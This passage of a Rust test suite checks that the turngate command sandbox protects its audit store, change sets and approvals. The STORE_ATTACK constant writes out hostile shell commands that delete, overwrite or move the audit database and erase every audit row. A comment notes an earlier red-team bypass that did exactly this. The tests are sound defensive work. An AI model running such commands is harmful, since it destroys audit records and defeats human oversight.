                "{who:?}: {line}"
            );
        }
        // ...and apply does it.
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        for (path, want) in [("ww", 0o775), ("d", 0o775), ("b.txt", 0o664), ("s", 0o755)] {
            let mode = std::fs::symlink_metadata(env.workspace.join(path))
                .unwrap()
                .mode()
                & 0o7777;
            assert_eq!(mode, want, "{who:?}: {path} applied as {mode:o}");
        }
    }
}

/// The number of audit rows in the store at `db` (read as root, outside any sandbox).
fn audit_rows(db: &Path) -> i64 {
    let out = Command::new("python3")
        .arg("-c")
        .arg("import sqlite3, sys; print(sqlite3.connect(sys.argv[1]).execute('select count(*) from audit_events').fetchone()[0])")
        .arg(db)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// `turngate run [--review] -- sh -c SCRIPT` in the env's workspace with the store at `store`.
fn run_with_store(env: &Env, store: &Path, review: bool, script: &str) -> Output {
    let (ws, store) = (
        env.workspace.display().to_string(),
        store.display().to_string(),
    );
    let mut args = vec!["run"];
    if review {
        args.push("--review");
    }
    args.extend([
        "--mode",
        "auto_accept_edits",
        "--approver",
        "allow",
        "--workspace",
        &ws,
        "--store",
        &store,
        "--",
        "sh",
        "-c",
        script,
    ]);
    env.turngate(&args).output().unwrap()
}

/// Every way the red team's command reached its store, each printing a word if it worked.
const STORE_ATTACK: &str = "ls .tgstate >/dev/null 2>&1 && echo LISTED; \
    cat .tgstate/audit.db >/dev/null 2>&1 && echo READ; \
    rm -f .tgstate/audit.db .tgstate/audit.db-wal .tgstate/audit.db-shm 2>/dev/null && \
      [ ! -e .tgstate/audit.db ] && echo REMOVED; \
    echo x 2>/dev/null > .tgstate/audit.db && echo WROTE; \
    mkdir -p .tgstate/changes/cs-1 2>/dev/null && echo PLANTED; \
    mv .tgstate .tgstate-old 2>/dev/null && echo MOVED; \
    rm -rf .tgstate 2>/dev/null; [ -e .tgstate ] || echo GONE; \
    /usr/bin/python3 -c \"import sqlite3; c = sqlite3.connect('.tgstate/audit.db'); \
      c.execute('delete from audit_events'); c.commit(); print('EDITED')\" 2>/dev/null; \
    echo done";

#[test]
fn a_store_inside_the_workspace_is_hidden_from_the_command() {
    // Red team R2: with `--store W/.tgstate/audit.db` a sandboxed command deleted every audit
    // row (and could edit approvals and pending change sets).
    for who in BOTH {
        let env = Env::new(who);
        let state = env.workspace.join(".tgstate");
        std::fs::create_dir_all(&state).unwrap();
        env.chown();
        let db = state.join("audit.db");
        let out = run_with_store(&env, &db, false, "echo first");
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        let before = audit_rows(&db);
        assert!(before > 0, "{who:?}");
        for review in [false, true] {
            let out = run_with_store(&env, &db, review, STORE_ATTACK);
            let stdout = String::from_utf8_lossy(&out.stdout);
            assert!(
                stdout.contains("done"),
                "{who:?} review={review}: {stdout} {}",
                stderr(&out)
            );
            for word in [
                "LISTED", "READ", "REMOVED", "WROTE", "PLANTED", "MOVED", "GONE", "EDITED",
            ] {
                assert!(
                    !stdout.contains(word),
                    "{who:?} review={review}: the command {word} the store: {stdout}"
                );
            }
        }
        // Every row survived, and the runs were recorded after them.
        assert!(audit_rows(&db) > before, "{who:?}");
        assert!(!state.join("changes/cs-1").exists(), "{who:?}");
        // The reviewed run's change set is intact and applies.
        let sets = env.changes_json_at(&db, &["list"]);
        let id = sets[0]["id"].as_str().unwrap().to_owned();
        let out = env
            .turngate(&[
                "changes",
                "apply",
                &id,
                "--store",
                &db.display().to_string(),
            ])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
    }
}

#[test]
fn a_store_directly_in_a_writable_root_refuses_the_spawn_and_names_it() {
    for who in BOTH {
        let env = Env::new(who);
        let db = env.workspace.join("audit.db");
        for review in [false, true] {
            let out = run_with_store(&env, &db, review, "echo ran > ran.txt");
            assert_ne!(out.status.code(), Some(0), "{who:?} review={review}");
            let err = stderr(&out);
            assert!(
                err.contains(&env.workspace.display().to_string()) && err.contains("audit store"),
                "{who:?} review={review}: {err}"
            );
            assert!(!env.workspace.join("ran.txt").exists(), "{who:?}: it ran");
        }
    }
}

#[test]
fn another_sets_sealed_manifest_copied_over_is_refused() {
    for who in BOTH {
        let env = Env::new(who);
        let a = env.review("echo a > a.txt");
        let b = env.review("echo b > b2.txt");
        let changes = env.state.join("changes");
        for file in ["manifest.json", "snapshot.json"] {
            std::fs::copy(changes.join(&b).join(file), changes.join(&a).join(file)).unwrap();
        }
        let before = tree(&env.workspace);
        let json = env.changes_json(&["apply", &a]);
        assert_eq!(json["error"], "corrupt", "{who:?}: {json}");
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: something was applied"
        );
    }
}

/// `turngate approvals ARGS --store STORE` as the env's user.
fn approvals(env: &Env, args: &[&str]) -> Output {
    let store = env.store();
    let mut all = vec!["approvals"];
    all.extend_from_slice(args);
    all.extend(["--store", &store]);
    env.turngate(&all).output().unwrap()
}

#[test]
fn a_deferred_reviewed_run_resumes_only_with_review() {
    for who in BOTH {
        let env = Env::new(who);
        let (ws, store) = (env.workspace.display().to_string(), env.store());
        let before = tree(&env.workspace);
        let out = env
            .turngate(&[
                "run",
                "--review",
                "--mode",
                "auto_accept_edits",
                "--approver",
                "defer",
                "--workspace",
                &ws,
                "--store",
                &store,
                "--",
                "sh",
                "-c",
                FOUR,
            ])
            .output()
            .unwrap();
        assert_ne!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("turngate approvals resume"),
            "{who:?}: {}",
            stderr(&out)
        );
        let list = approvals(&env, &["list", "--json"]);
        let pending: Value = serde_json::from_slice(&list.stdout).unwrap();
        assert_eq!(pending[0]["review"], true, "{who:?}: {pending}");
        let id = pending[0]["request"]["id"].as_str().unwrap().to_owned();
        let out = approvals(&env, &["resolve", &id, "allow_once"]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));

        // `approvals resume` runs it with review: the workspace is untouched, the four
        // changes are held in a change set beside the store.
        let resume = || {
            approvals(
                &env,
                &[
                    "resume",
                    &id,
                    "--mode",
                    "auto_accept_edits",
                    "--workspace",
                    &ws,
                ],
            )
        };
        let out = resume();
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("change set"),
            "{who:?}: {}",
            stderr(&out)
        );
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: the resume wrote through"
        );
        let ids = env.ids_listed();
        assert_eq!(ids.len(), 1, "{who:?}");
        assert_eq!(kinds(&env.show(&ids[0])).len(), 4, "{who:?}");

        // Once.
        let out = resume();
        assert_ne!(out.status.code(), Some(0), "{who:?}");
        assert!(
            stderr(&out).contains("already_used"),
            "{who:?}: {}",
            stderr(&out)
        );
        assert_eq!(tree(&env.workspace), before, "{who:?}");
        assert_eq!(env.ids_listed().len(), 1, "{who:?}");
    }
}
